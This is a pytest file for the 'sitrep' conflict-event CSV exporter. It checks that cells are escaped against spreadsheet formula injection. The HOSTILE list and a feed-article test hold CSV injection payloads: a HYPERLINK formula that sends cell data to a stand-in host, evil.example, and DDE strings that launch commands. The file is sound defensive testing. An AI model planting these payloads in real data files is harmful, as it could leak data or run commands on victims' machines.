"""Every CSV sitrep writes is safe to open in a spreadsheet: no text cell starts a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from sitrep.export import FORMULA_STARTS, safe_cell
from sitrep.export.acled import write_events_csv
from sitrep.export.ucdp import write_ged
from sitrep.fuse.events import EVENT_COLUMNS

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def neutral(text: str) -> str:
    return "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_starting_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == neutral(text)


def test_a_carriage_return_inside_a_cell_cannot_split_the_row(tmp_path):
    from sitrep.export import write_csv

    rows = cells(write_csv(tmp_path / "x.csv", ["a", "b"], [{"a": "one\rtwo", "b": 1}, {"a": "x\r\ny", "b": 2}]))
    assert rows == [{"a": "one\ntwo", "b": "1"}, {"a": "x\ny", "b": "2"}]


@pytest.mark.parametrize("value", ["Dawn", "", "The Balochistan Post; Dawn", "'already quoted", " =spaced",
                                   "a=b", -3, 0, -12.5, 66.0229, "-12.5", "+5", "-1e3", "2026-03-10"])
def test_plain_text_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def hostile_event(n: int, text: str) -> dict:
    return {"event_id_cnty": f"PAK{n}", "event_date": "2026-03-10", "year": 2026, "time_precision": 1,
            "disorder_type": "Political violence", "event_type": "Violence against civilians",
            "sub_event_type": "Attack", "actor1": text, "assoc_actor_1": "", "inter1": 3,
            "actor2": "Civilians (Pakistan)", "assoc_actor_2": "", "inter2": 7, "interaction": 37,
            "civilian_targeting": "Civilian targeting", "iso": 586, "region": "Southern Asia",
            "country": "Pakistan", "admin1": text, "admin2": "", "admin3": "", "location": text,
            "latitude": -12.5 - n, "longitude": -66.0229, "geo_precision": 1, "source": text,
            "source_scale": "Other", "notes": text, "fatalities": 4, "tags": "", "timestamp": 1773100000,
            "story_id": f"s{n}", "doc_ids": [text], "claim_quotes": [], "figures": []}


def cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[dict]):
    for row in rows:
        for col, value in row.items():
            assert is_number(value) or not value.startswith(FORMULA_STARTS), f"{col}={value!r} would run as a formula"


def test_events_csv_neutralises_hostile_text_and_keeps_numbers(tmp_path):
    events = [hostile_event(i, t) for i, t in enumerate(HOSTILE)]
    rows = cells(write_events_csv(tmp_path / "events.csv", events))
    assert_no_formula(rows)
    assert sorted(r["source"] for r in rows) == sorted(neutral(t) for t in HOSTILE)
    assert {r["notes"] for r in rows} == {r["source"] for r in rows}
    df = pd.read_csv(tmp_path / "events.csv")  # negative coordinates stay numbers
    assert df["latitude"].dtype == float and (df["latitude"] < 0).all() and (df["longitude"] == -66.0229).all()
    assert list(df.columns) == EVENT_COLUMNS


def test_ged_csv_neutralises_hostile_text_and_keeps_numbers(tmp_path):
    events = [hostile_event(i, t) for i, t in enumerate(HOSTILE)]
    rows = cells(write_ged(tmp_path / "ged.csv", events, []))
    assert_no_formula(rows)
    assert sorted(r["source_office"] for r in rows) == sorted(neutral(t) for t in HOSTILE)
    assert {r["source_original"] for r in rows} == {r["source_office"] for r in rows}
    df = pd.read_csv(tmp_path / "ged.csv")
    assert (df["latitude"] < 0).all() and (df["best"] == 4).all()


@pytest.mark.nlp
def test_a_hostile_source_and_title_from_a_feed_never_start_a_cell(tmp_path):
    from sitrep.pipeline import run
    from sitrep.settings import Settings

    d = tmp_path / "in"
    d.mkdir()
    article = {"id": "evil", "source": '=HYPERLINK("http://evil.example","Dawn")', "title": "@SUM(1+1)",
               "published": "2026-03-10",
               "text": "Gunmen attacked a police post in Bannu on Tuesday, killing four officers, police said."}
    (d / "feed.jsonl").write_text(json.dumps(article) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    run([d], out, Settings(progress=False))
    events, ged = cells(out / "events.csv"), cells(out / "ged.csv")
    assert events and ged
    assert_no_formula(events)
    assert_no_formula(ged)
    assert events[0]["source"] == "'" + article["source"]
